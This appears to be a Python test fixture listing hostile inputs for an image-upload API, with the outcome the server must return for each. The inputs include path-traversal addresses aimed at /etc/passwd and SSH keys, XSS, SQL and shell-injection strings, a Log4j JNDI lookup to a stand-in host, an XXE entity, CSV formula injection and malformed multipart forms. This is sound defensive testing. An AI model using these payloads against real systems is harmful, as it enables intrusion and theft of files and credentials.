"""Hostile input: paths, words, and forms with what each must give."""

import gzip
from collections.abc import Iterator, Mapping

from tests.api.raw import form
from tests.model.tiny import colour
from tests.photos import encoded

SECRETS = ("etc/passwd", "bundle.json", "streamlit_app.py", ".git/config", "records.sqlite")
UP = (
    r".. %2e%2e %2E%2E ..%2f.. %2e%2e%2f%2e%2e %252e%252e ..%5c.. ..\.. %c0%ae%c0%ae "
    "%ef%bc%8e%ef%bc%8e .... ..%00 ..;"
).split()


def addresses() -> Iterator[str]:
    """Yield paths that would leave their folder."""
    for up in UP:
        for secret in SECRETS:
            yield f"models/{up}/{up}/{up}/{up}/{secret}"
        yield f"models/imagenet/{up}/{up}/settings.py"
        yield f"models/imagenet/000000000000/{up}%2f{up}%2fsettings.py"
    yield from (
        "models//etc/passwd",
        "models/%2fetc%2fpasswd",
        "models/imagenet/000000000000//etc/passwd",
        "models/imagenet%00.json",
        "models/file:%2f%2f%2fetc%2fpasswd",
        "models/C:%5cwindows%5cwin.ini",
        "models/~root/.ssh/id_rsa",
        "models/imagenet/current/graph.onnx",
        "models/.new-abc/x",
        "models/imagenet/../../../../etc/passwd",
        "docs-files/../../../../../../etc/passwd",
        "docs-files/..%2f..%2f..%2fetc%2fpasswd",
        "docs-files/%2e%2e/__init__.py",
    )


WORDS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "'; DROP TABLE corrections; --",
    "$(touch marker)",
    "; touch marker",
    "{{7*7}}",
    "${7*7}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%s%s%n",
    "=cmd|' /C calc'!A0",
    "..\\..\\windows",
    "file:///etc/passwd",
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<html>",
    "x\x00y",
    "\u202egpj.exe",
    "\ufeffword",
    "A\u0300" * 100,
    "\U0001f98a",
    "null",
    "__proto__",
    '<!--#exec cmd="ls"-->',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    "a" * 5000,
)

RED = encoded(colour("red"), "PNG")
NAMED = b'Content-Disposition: form-data; name="photo"; filename="red.png"'
KIND = b"multipart/form-data; boundary=x"

READ, EMPTY, HALF, OTHER = "read", "empty", "damaged", "unsupported-format"
BROKEN, MISSING, INVALID = "malformed", "missing", "invalid"


def part(*head: bytes, content: bytes = RED) -> bytes:
    """Return a part with these header lines and this content."""
    return b"\r\n".join(head) + b"\r\n\r\n" + content


def field(name: bytes, content: bytes = b"") -> bytes:
    """Return a part that is not a file."""
    return part(b'Content-Disposition: form-data; name="%s"' % name, content=content)


GOOD = form(part(NAMED))
END = b"\r\n--x--\r\n"
MB = 2**20

# Text after "multipart/form-data" in Content-Type, sent with a valid form.
KINDS: Mapping[str, tuple[bytes, str]] = {
    "no boundary": (b"", BROKEN),
    "half a quote": (b'; boundary="x', BROKEN),
    "a boundary of 10 kB": (b"; boundary=" + b"x" * 10_000, BROKEN),
    "a boundary of other bytes": (b"; boundary=\xff\xfe", BROKEN),
    "two boundaries, the last one right": (b"; boundary=y; boundary=x", READ),
    "a kind that begins alike": (b"x; boundary=x", MISSING),
    "a codec that decodes nothing": (b"; boundary=x; charset=undefined", BROKEN),
    **{
        f"charset {name[:20]!r}": (b"; boundary=x; charset=" + name, READ)
        for name in (*b"utf-7 base64 unicode_escape ..\\x".split(), b"\xff" * 50)
    },
}

# Header lines of the only part.
HEADS: Mapping[str, tuple[tuple[bytes, ...], str]] = {
    "no headers": ((), BROKEN),
    "no name": ((b'Content-Disposition: form-data; filename="a"',), BROKEN),
    "half a quote": ((b'Content-Disposition: form-data; name="photo; filename="a',), MISSING),
    "a header of 1 MB": ((NAMED, b"A: " + b"b" * MB), BROKEN),
    "10,000 headers": ((NAMED, *[b"A: b"] * 10_000), BROKEN),
    "NUL in the file's name": ((NAMED.replace(b"red", b"r\0d"),), READ),
    "other bytes in a header": ((NAMED, b"A: \xff\xfe"), READ),
    "a path as the file's name": ((NAMED.replace(b"red.png", b"../../etc/passwd"),), READ),
    # RFC 7578 has no transfer encoding: the bytes as sent are the photo.
    "a transfer encoding": ((NAMED, b"Content-Transfer-Encoding: base64"), READ),
    # RFC 7578 has no extended syntax either: a part without a plain file name is not a file.
    **{
        f"file name {value!r}": (
            (b'Content-Disposition: form-data; name="photo"; filename' + value,),
            MISSING,
        )
        for value in (b"*=utf-8''a.png", b"*=undefined''%00", b'*0="a"; filename*1=".png"')
    },
}

BODIES: Mapping[str, tuple[bytes, str]] = {
    "nothing": (b"", MISSING),
    "10,000 boundaries": (b"--x\r\n" * 10_000, BROKEN),
    "LF for CRLF": (GOOD.replace(b"\r\n", b"\n"), BROKEN),
    "words before the first boundary": (b"hello\r\n" + GOOD, BROKEN),
    "words behind the end": (GOOD + b"0" * MB, READ),
    "never closed": (GOOD.removesuffix(END), MISSING),
    "10,000 empty files": (form(*[part(NAMED, content=b"")] * 10_000), BROKEN),
    "21 fields": (form(*[field(b"a")] * 21, part(NAMED)), BROKEN),
    "a field of 1 MB": (form(field(b"a", b"0" * MB), part(NAMED)), BROKEN),
    "two photos": (form(part(NAMED), part(NAMED)), BROKEN),
    "the photo as a field": (form(field(b"photo", RED)), MISSING),
    "a field twice": (form(field(b"top", b"0"), field(b"top", b"2"), part(NAMED)), READ),
    "NUL as a field": (form(field(b"top", b"\0"), part(NAMED)), INVALID),
    "other bytes as a field": (form(field(b"model", b"\xff\xfe"), part(NAMED)), INVALID),
    "a path as a field": (form(field(b"model", b"../../etc/passwd"), part(NAMED)), INVALID),
    "an empty photo": (form(part(NAMED, content=b"")), EMPTY),
    "half a photo": (form(part(NAMED, content=RED[:60])), HALF),
    "a page as the photo": (form(part(NAMED, content=b"<script>alert(1)</script>")), OTHER),
    "a form in gzip": (gzip.compress(GOOD, mtime=0), BROKEN),
    "JSON": (b'{"photo": 1}', BROKEN),
}

FORMS: Mapping[str, tuple[bytes, bytes, str]] = {
    **{
        f"kind: {name}": (GOOD, b"multipart/form-data" + kind, outcome)
        for name, (kind, outcome) in KINDS.items()
    },
    **{
        f"head: {name}": (form(part(*head)), KIND, outcome)
        for name, (head, outcome) in HEADS.items()
    },
    **{f"body: {name}": (body, KIND, outcome) for name, (body, outcome) in BODIES.items()},
}
"""By name: a body, its Content-Type, and ``read`` where a photo is read, else the code."""
